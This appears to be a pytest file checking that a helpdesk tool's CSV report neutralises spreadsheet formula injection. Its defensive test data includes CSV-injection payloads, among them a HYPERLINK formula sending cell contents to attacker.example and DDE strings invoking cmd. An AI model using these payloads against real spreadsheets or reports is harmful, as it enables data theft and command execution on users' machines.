"""Threat: an employee types a location (or an operator a category title) that the manager's
spreadsheet runs as a formula when it opens the CSV report (`=HYPERLINK(...)`, `@SUM(...)`).

Every cell that starts with `= + - @`, a tab or a CR is prefixed with `'`, which spreadsheets
show as text; the text itself is kept.
"""

from __future__ import annotations

import csv
import io

import pytest
from helpdesk_admin.report import Report, csv_cell, render_csv

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Подробнее")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def report_with(text: str) -> Report:
    return Report.model_validate(
        {
            "period": {"since": "2026-11-02", "until": "2026-11-15"},
            "tickets": 1,
            "by_category": [{"code": "net.wifi", "title": text, "tickets": 1}],
            "top_locations": [{"location": text, "tickets": 1}],
            "failed_sends": {"count": 1, "references": ["TG-ABC123"]},
        }
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_user_text_in_the_csv_report_is_never_a_formula(payload: str) -> None:
    rows = list(csv.reader(io.StringIO(render_csv(report_with(payload)), newline="")))
    cells = [cell for row in rows for cell in row]
    assert cells, "the report is empty"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The employee's text is still there, readable, behind the quote.
    assert f"'{payload}" in cells


def test_ordinary_text_and_figures_are_left_alone() -> None:
    assert csv_cell("каб. 305") == "каб. 305"
    assert csv_cell("4.5") == "4.5"
    assert csv_cell("net.wifi") == "net.wifi"
    assert csv_cell("a=b") == "a=b"
